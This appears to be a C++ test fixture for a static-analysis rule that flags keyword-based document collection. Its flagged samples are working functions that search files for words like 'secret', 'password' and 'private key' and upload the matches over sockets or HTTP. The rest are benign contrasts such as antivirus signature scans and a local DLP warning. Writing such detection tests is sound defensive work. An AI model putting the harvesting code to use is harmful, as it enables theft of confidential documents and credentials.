// Remote-collection samples in C++: documents searched for "secret", "confidential" or
// "password" before they are uploaded — espionage tooling — next to what an antivirus does
// with the same APIs: signature matching, extension filters, local DLP alerts.
#include <windows.h>
#include <winsock2.h>
#include <wininet.h>
#include <shlwapi.h>
#include <cstdio>
#include <cstring>
#include <string>
#include <vector>
#include <algorithm>

class DocumentHarvester {
public:
    DocumentHarvester(SOCKET s, HINTERNET req) : m_sock(s), m_req(req) {}
    void HarvestNames(const std::wstring &root);
    void HarvestContents(const std::wstring &path);
    void HarvestMapped(const wchar_t *path);
private:
    void Upload(const std::string &blob);
    SOCKET m_sock;
    HINTERNET m_req;
};

static std::string Utf8(const wchar_t *w)
{
    char buf[1024];
    WideCharToMultiByte(CP_UTF8, 0, w, -1, buf, sizeof buf, NULL, NULL);
    return buf;
}

void DocumentHarvester::Upload(const std::string &blob)
{
    DWORD w = 0;
    InternetWriteFile(m_req, blob.data(), (DWORD)blob.size(), &w);
}

// File names matched against sensitive words, the matches uploaded.
void DocumentHarvester::HarvestNames(const std::wstring &root)
{
    WIN32_FIND_DATAW fd;
    HANDLE h = FindFirstFileW((root + L"\\*").c_str(), &fd);
    std::string hits;
    do {
        if (StrStrIW(fd.cFileName, L"confidential") || StrStrIW(fd.cFileName, L"secret")) { // want "remote-collection/keyword-search"
            hits += Utf8(fd.cFileName);
            hits += "\n";
        }
    } while (FindNextFileW(h, &fd));
    FindClose(h);
    Upload(hits);
}

// File contents searched with std::string::find, the whole document sent on a match.
void DocumentHarvester::HarvestContents(const std::wstring &path)
{
    HANDLE f = CreateFileW(path.c_str(), GENERIC_READ, FILE_SHARE_READ, NULL, OPEN_EXISTING, 0, NULL);
    std::string text;
    char buf[16384];
    DWORD got = 0;
    while (ReadFile(f, buf, sizeof buf, &got, NULL) && got)
        text.append(buf, got);
    CloseHandle(f);
    std::string lower = text;
    std::transform(lower.begin(), lower.end(), lower.begin(), ::tolower);
    if (lower.find("password") != std::string::npos || lower.find("private key") != std::string::npos) // want "remote-collection/keyword-search"
        send(m_sock, text.data(), (int)text.size(), 0);
}

void DocumentHarvester::HarvestMapped(const wchar_t *path)
{
    HANDLE f = CreateFileW(path, GENERIC_READ, FILE_SHARE_READ, NULL, OPEN_EXISTING, 0, NULL);
    HANDLE m = CreateFileMappingW(f, NULL, PAGE_READONLY, 0, 0, NULL);
    const char *view = (const char *)MapViewOfFile(m, FILE_MAP_READ, 0, 0, 0);
    DWORD size = GetFileSize(f, NULL);
    if (strstr(view, "TOP SECRET") != NULL || strstr(view, "Internal Only") != NULL) { // want "remote-collection/keyword-search"
        DWORD w = 0;
        InternetWriteFile(m_req, view, size, &w);
    }
    UnmapViewOfFile(view);
    CloseHandle(m);
    CloseHandle(f);
}

// stdio, with the keywords in a table and Russian / German words among them.
static const char *const kKeywords[] = { "секрет", "vertraulich", "classified", "proprietary" };

bool LooksSensitive(const char *line)
{
    for (const char *kw : kKeywords)
        if (strstr(line, kw)) // todo "remote-collection/keyword-search" the keywords are elements of an array of strings (no functions in its rows, so not a table) read through a range-for variable: the comparison has no constant
            return true;
    return false;
}

void GrepAndSend(SOCKET s, const char *path)
{
    FILE *f = fopen(path, "r");
    char line[1024];
    while (fgets(line, sizeof line, f))
        if (LooksSensitive(line))
            send(s, line, (int)strlen(line), 0);
    fclose(f);
}

// The same filter with literals, in a helper of its own.
static bool IsSecretLine(const std::string &line)
{
    return line.find("Geheim") != std::string::npos || line.find("机密") != std::string::npos; // want "remote-collection/keyword-search"
}

void GrepAndPost(HINTERNET req, const char *path)
{
    FILE *f = fopen(path, "r");
    char buf[1024];
    std::string out;
    while (fgets(buf, sizeof buf, f)) {
        std::string line = buf;
        if (IsSecretLine(line))
            out += line;
    }
    fclose(f);
    HttpSendRequestA(req, NULL, 0, (LPVOID)out.data(), (DWORD)out.size());
}

// ---- must not match -----------------------------------------------------------------------

// A signature engine matches byte patterns, not words, and uploads the sample on a hit.
void SignatureScan(SOCKET s, const wchar_t *path)
{
    HANDLE f = CreateFileW(path, GENERIC_READ, FILE_SHARE_READ, NULL, OPEN_EXISTING, 0, NULL);
    char buf[65536];
    DWORD got = 0;
    ReadFile(f, buf, sizeof buf - 1, &got, NULL);
    CloseHandle(f);
    buf[got] = 0;
    if (strstr(buf, "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR") != NULL) // ok: a malware signature, not a sensitive word
        send(s, buf, (int)got, 0);
}

// Documents picked by extension and uploaded for sandboxing.
void SubmitOfficeDocuments(SOCKET s, const wchar_t *dir)
{
    WIN32_FIND_DATAW fd;
    HANDLE h = FindFirstFileW(dir, &fd);
    do {
        const wchar_t *ext = PathFindExtensionW(fd.cFileName);
        if (_wcsicmp(ext, L".docm") == 0 || _wcsicmp(ext, L".xlsm") == 0) { // ok: macro-enabled extensions, not sensitive words
            std::string name = Utf8(fd.cFileName);
            send(s, name.c_str(), (int)name.size(), 0);
        }
    } while (FindNextFileW(h, &fd));
    FindClose(h);
}

// A data-loss-prevention check that warns locally and sends nothing.
void DlpWarn(const wchar_t *path)
{
    HANDLE f = CreateFileW(path, GENERIC_READ, FILE_SHARE_READ, NULL, OPEN_EXISTING, 0, NULL);
    char buf[4096];
    DWORD got = 0;
    ReadFile(f, buf, sizeof buf - 1, &got, NULL);
    CloseHandle(f);
    buf[got] = 0;
    if (strstr(buf, "CONFIDENTIAL")) // ok: searched, but the document never leaves the machine
        MessageBoxW(NULL, L"This document is marked confidential.", L"AvCorp DLP", MB_ICONWARNING);
}

// The keyword appears in what the server said, not in a collected document.
void ServerSaysSecret(SOCKET s)
{
    char reply[256];
    recv(s, reply, sizeof reply, 0);
    if (strstr(reply, "password")) // ok: network input, not a collected file
        send(s, "NOAUTH", 6, 0);
}
